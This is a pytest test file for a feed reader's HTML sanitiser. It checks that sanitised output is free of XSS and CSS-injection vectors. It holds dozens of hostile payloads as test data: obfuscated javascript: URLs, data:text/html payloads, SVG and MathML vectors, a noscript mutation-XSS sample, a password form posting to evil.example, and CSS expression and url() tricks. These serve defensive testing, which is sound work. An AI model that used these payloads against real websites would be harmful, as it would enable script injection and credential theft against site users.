"""Each known XSS vector, checked by parsing the sanitised output (never by substring)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from feedstation.normalize.html import force_attributes, lead_image, sanitize_html, sanitize_with_lead_image
from tests.normalize.html_checks import unsafe_findings

BASE = "https://news.example.com/posts/1.html"


def elements(html: str, tag: str):
    return LexborHTMLParser(f"<body>{html}</body>").css(tag)


THREATS = {
    "script": '<p>hi</p><script>alert(1)</script>',
    "script_uppercase_split": "<SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>alert(1)</script>",
    "svg_script": "<svg><script>alert(1)</script></svg>",
    "svg_xlink_href": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "on_attributes": '<img src="https://x.example/a.png" onerror="alert(1)"><p onclick="alert(1)" onmouseover=alert(1)>p</p>',
    "javascript_mixed_case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript_tab_newline": '<a href="java\tscr\nipt:alert(1)">x</a><a href=" &#14;javascript:alert(1)">y</a>',
    "javascript_entities": '<a href="&#x6A;avascript:alert(1)">x</a><a href="&#106;&#97;vascript&colon;alert(1)">y</a>',
    "vbscript": '<a href="VBScript:msgbox(1)">x</a><img src="vbscript:x">',
    "data_text_html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a><img src="data:text/html,<script>alert(1)</script>">',
    "data_svg_image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "iframe_object_embed": '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf">',
    "form_password": '<form action="https://evil.example"><input type="password" name="p"><button>go</button></form>',
    "style_expression": '<p style="width: expression(alert(1))">x</p>',
    "style_url_javascript": '<div style="background:url(javascript:alert(1))">x</div>',
    "style_block": "<style>body{display:none}</style><p>x</p>",
    "base_href": '<base href="https://evil.example/"><a href="x">x</a>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "link_stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "math_xlink": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "video_poster_javascript": '<video poster="javascript:alert(1)" src="javascript:alert(2)" autoplay></video>',
    "noscript_mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
}


@pytest.mark.parametrize("name", sorted(THREATS))
def test_threat_is_neutralised(name):
    out = sanitize_html(THREATS[name], BASE)
    assert unsafe_findings(out) == [], out


def test_the_checker_itself_sees_threats():
    # Guards against a checker that passes everything.
    assert unsafe_findings(THREATS["script"])
    assert unsafe_findings(THREATS["javascript_entities"])
    assert unsafe_findings(THREATS["on_attributes"])
    assert unsafe_findings(THREATS["style_expression"])
    assert unsafe_findings(THREATS["data_text_html"])


def test_data_image_png_is_allowed_in_img():
    png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
    out = sanitize_html(f'<img src="{png}"><a href="{png}">link</a>', BASE)
    [img] = elements(out, "img")
    assert img.attributes["src"] == png
    [a] = elements(out, "a")
    assert "href" not in a.attributes


def test_img_gets_lazy_loading_and_no_referrer_even_if_it_asked_otherwise():
    out = sanitize_html('<img src="//pic1.zhimg.com/v2-a.jpg" loading="eager" referrerpolicy="unsafe-url" class="x" data-x="1">', None)
    [img] = elements(out, "img")
    assert img.attributes == {
        "src": "https://pic1.zhimg.com/v2-a.jpg",
        "loading": "lazy",
        "referrerpolicy": "no-referrer",
    }


def test_links_get_rel_and_absolute_href():
    out = sanitize_html('<a href="../about" rel="opener" target="_blank">about</a><a href="mailto:ed@example.com">mail</a>', BASE)
    first, second = elements(out, "a")
    assert first.attributes == {"href": "https://news.example.com/about", "rel": "noopener noreferrer nofollow"}
    assert second.attributes["href"] == "mailto:ed@example.com"


def test_relative_url_without_base_is_dropped():
    [a] = elements(sanitize_html('<a href="/x">x</a>', None), "a")
    assert "href" not in a.attributes


def test_class_id_and_data_attributes_are_removed_and_a_safe_style_is_kept():
    out = sanitize_html('<p class="c" id="i" style="color:red" data-track="1" title="ok">t</p>', BASE)
    [p] = elements(out, "p")
    assert p.attributes == {"title": "ok", "style": "color: red"}


@pytest.mark.parametrize(("tag", "style", "kept"), [
    ("p", "text-align:center", "text-align: center"),
    ("span", "COLOR: #C00; Background-Color: rgb(255, 240, 0)", "color: #c00; background-color: rgb(255, 240, 0)"),
    # a background chosen against a light page keeps its dark text under a dark theme
    ("mark", "background-color: #ff0", "background-color: #ff0; color: #111"),
    ("b", "font-weight: 700; font-style: italic", "font-weight: 700; font-style: italic"),
    ("u", "text-decoration: underline wavy red", "text-decoration: underline wavy red"),
    ("span", "color: hsla(120, 50%, 50%, 0.5)", "color: hsla(120, 50%, 50%, 0.5)"),
    ("img", "width: 100%; height: auto", "width: 100%; height: auto"),
    ("p", "width: 100px; color: blue", "color: blue"),  # width only on images
    ("p", "color: red; position: fixed; top: 0", "color: red"),
])
def test_allowed_style_properties_keep_their_look(tag, style, kept):
    src = ' src="https://img.example.com/a.png"' if tag == "img" else ""
    [el] = elements(sanitize_html(f'<{tag}{src} style="{style}">x</{tag}>', BASE), tag)
    assert el.attributes["style"] == kept


STYLE_ATTACKS = [
    "background-color: url(javascript:alert(1))",
    "color: expression(alert(1))",
    "width: expression(alert(1))",
    "background: url(https://evil.example/track.png)",
    "background-color: #fff; background-image: url(https://evil.example/x.png)",
    "position: fixed; top: 0; left: 0; width: 100%; height: 100%",
    "behavior: url(x.htc)",
    "-moz-binding: url(https://evil.example/xbl.xml#x)",
    "color: red !important",
    "col\\6f r: red",
    "color: r/**/ed",
    "color: \\75 rl(x)",
    "color: rgb(url(x), 0, 0)",
    "font-weight: bold; z-index: 99999",
    "color: image-set(url(x) 1x)",
    "content: url(x)",
    # Uppercase, entity-encoded (the HTML parser decodes them before the filter sees the value), CSS-escaped
    # in other spellings, comments between the tokens, and a safe declaration beside a bad one.
    "BEHAVIOR: URL(x.htc)",
    "COLOR: EXPRESSION(alert(1))",
    "Position: FIXED; Z-INDEX: 9",
    "-MOZ-BINDING: URL(https://evil.example/xbl.xml#x)",
    "background-color: &#x75;rl(x)",
    "color: &#117;&#114;&#108;&#40;x)",
    "color: u&#114;l(x); position&#58;fixed",
    "background-color: \\000075rl(x)",
    "color: \\55 RL(x)",
    "color: exp\\ression(alert(1))",
    "color:/**/url(x)",
    "col/**/or: red; posi/**/tion: fixed",
    "text-align: center; position:fixed",
    "color: red; -moz-binding: url(x)",
    "background-color: rgb(0, 0, 0) url(x)",
    "width: expression\n(alert(1))",
]


@pytest.mark.parametrize("style", STYLE_ATTACKS)
@pytest.mark.parametrize("tag", ["p", "img"])
def test_style_never_lets_urls_expressions_bindings_or_fixed_position_through(tag, style):
    src = ' src="https://img.example.com/a.png"' if tag == "img" else ""
    out = sanitize_html(f'<{tag}{src} style="{style}">x</{tag}>', BASE)
    assert unsafe_findings(out) == [], out
    lowered = out.lower()
    for token in ("url(", "expression(", "position", "behavior", "-moz-binding", "important", "\\", "/*", "z-index"):
        assert token not in lowered, out


# Tokens an attacker would mix: the forbidden words in every spelling, escapes, comments, entities, separators,
# and the allowed properties and values they would hide behind.
_STYLE_TOKENS = st.sampled_from([
    "url(", "URL(", "u", "r", "l", "(", ")", "expression", "Expression(", "behavior", "-moz-binding", "position",
    "fixed", "z-index", "image-set(", "@import", "javascript:", "!important", ":", ";", " ", "\n", "\\", "\\75 ",
    "\\000075", "\\3a ", "/*", "*/", "&#x75;", "&#92;", "&#58;", "&colon;", "&lpar;", "'", "&quot;", "\u00a0",
    "ｕｒｌ(", "color", "COLOR", "background-color", "text-align", "font-weight", "width", "height", "red", "#fff",
    "rgb(1,2,3)", "center", "bold", "50%",
])


def _css_decoded(value: str) -> str:
    """What a CSS parser would see: comments removed, `\\75 ` and `\\x` escapes decoded, lowercased."""
    value = re.sub(r"/\*.*?\*/", "", value, flags=re.S)
    value = re.sub(r"\\([0-9a-fA-F]{1,6})\s?", lambda m: chr(min(int(m.group(1), 16), 0x10FFFF)), value)
    return re.sub(r"\\(.)", r"\1", value).lower()


# Declarations (`name: value`) made of those tokens, joined by `;`: the filter judges declaration by declaration.
_STYLES = st.lists(st.tuples(st.lists(_STYLE_TOKENS, min_size=1, max_size=3), st.lists(_STYLE_TOKENS, max_size=8))
                   .map(lambda parts: "".join(parts[0]) + ":" + "".join(parts[1])), max_size=4).map(";".join)


@settings(max_examples=400, deadline=None)
@given(_STYLES, st.sampled_from(["p", "img", "span", "td"]))
def test_no_mix_of_tokens_gets_a_url_expression_binding_or_position_through_the_style_filter(style, tag):
    src = ' src="https://img.example.com/a.png"' if tag == "img" else ""
    out = sanitize_html(f'<table><tr><{tag}{src} style="{style}">x</{tag}></tr></table>' if tag == "td"
                        else f'<{tag}{src} style="{style}">x</{tag}>', BASE)
    assert unsafe_findings(out) == [], (style, out)
    for node in LexborHTMLParser(f"<body>{out}</body>").root.traverse(include_text=False):
        value = (node.attributes or {}).get("style")
        if value is None:
            continue
        decoded = _css_decoded(value)
        for token in ("url(", "expression", "behavior", "binding", "position", "fixed", "import", "image-set",
                      "javascript", "!", "\\", "/*"):
            assert token not in decoded, (style, value)


def test_a_colour_is_a_real_css_colour_and_a_transparent_background_chooses_no_text_colour():
    out = sanitize_html('<p style="color: position; background-color: fixed">a</p>'
                        '<p style="color: RebeccaPurple; background-color: transparent">b</p>', BASE)
    first, second = elements(out, "p")
    assert "style" not in first.attributes
    assert second.attributes["style"] == "color: rebeccapurple; background-color: transparent"


def test_style_entities_are_decoded_before_checking():
    out = sanitize_html('<p style="color: &#x72;ed; background-color: u&#x72;l(x)">x</p>', BASE)
    assert elements(out, "p")[0].attributes == {"style": "color: red"}


def test_images_carry_forced_attributes_once_even_when_sanitised_again():
    once = sanitize_html('<img src="https://img.example.com/a.png" loading="eager" referrerpolicy="origin">', BASE)
    again = sanitize_html(once, BASE)
    for html in (once, again):
        tag = html[html.index("<img"):html.index(">") + 1]
        assert tag.count("loading=") == 1 and tag.count("referrerpolicy=") == 1, tag


def test_allowed_article_tags_survive():
    html = "<h2>h</h2><figure><img src='a.png'><figcaption>c</figcaption></figure><blockquote>q</blockquote><pre><code>x</code></pre><table><tr><td colspan='2'>1</td></tr></table><ul><li>i</li></ul>"
    out = sanitize_html(html, BASE)
    for tag in ("h2", "figure", "figcaption", "blockquote", "pre", "code", "table", "td", "ul", "li", "img"):
        assert elements(out, tag), tag
    assert elements(out, "td")[0].attributes == {"colspan": "2"}


def test_video_never_autoplays_and_has_controls():
    [video] = elements(sanitize_html('<video src="v.mp4" autoplay muted loop></video>', BASE), "video")
    assert set(video.attributes) == {"src", "controls", "preload"}
    assert video.attributes["preload"] == "none"


def test_output_is_byte_identical_across_calls():
    # nh3's forced attributes came out in HashMap order, which changed the content hash per run.
    html = '<p><img src="a.png" alt="x"><video src="v.mp4"></video><a href="b">b</a></p>'
    assert len({sanitize_html(html, BASE) for _ in range(30)}) == 1


def test_forced_attributes_are_not_injected_into_attribute_values():
    out = sanitize_html('<p title="<img>"><img title="<img>" src="a.png"></p>', BASE)
    [p] = elements(out, "p")
    assert p.attributes == {"title": "<img>"}
    [img] = elements(out, "img")
    assert img.attributes["title"] == "<img>" and img.attributes["loading"] == "lazy"


def test_hexo_markers_and_object_replacement_are_stripped():
    html = "<p>a\ufffcb</p><!--hexoPostRenderEscape:<p>x</p>:hexoPostRenderEscape--><p>c</p>"
    out = sanitize_html(html, BASE)
    assert "\ufffc" not in out
    assert "hexoPostRenderEscape" not in out
    assert [p.text() for p in elements(out, "p")] == ["ab", "c"]


def test_lead_image_is_first_safe_img_and_matches_the_walk():
    html = '<p><img src="javascript:x"><img src="img/first.png"><img src="https://x.example/second.png"></p>'
    out, walked = sanitize_with_lead_image(html, BASE)
    assert walked == "https://news.example.com/posts/img/first.png"
    assert lead_image(out) == walked
    assert lead_image("<p>no images</p>") is None


def test_empty_and_none_give_empty_string():
    assert sanitize_html("", BASE) == ""
    assert sanitize_with_lead_image(None, BASE) == ("", None)


def test_forcing_the_site_set_on_stored_html_sets_each_attribute_once():
    stored = sanitize_html('<p><img src="https://img.example.com/a.png" alt="a"><img src="https://img.example.com/b.png"></p>', BASE)
    site = force_attributes(stored, {"img": ' loading="lazy" decoding="async" referrerpolicy="no-referrer"'})
    assert force_attributes(site, {"img": ' loading="lazy" decoding="async" referrerpolicy="no-referrer"'}) == site
    tags = [m.group(0) for m in re.finditer(r"<img[^>]*>", site)]
    assert len(tags) == 2
    for tag in tags:
        names = re.findall(r'\s([\w-]+)=', tag)
        assert sorted(names) == sorted(set(names)), tag
        assert {"loading", "decoding", "referrerpolicy", "src"} <= set(names)
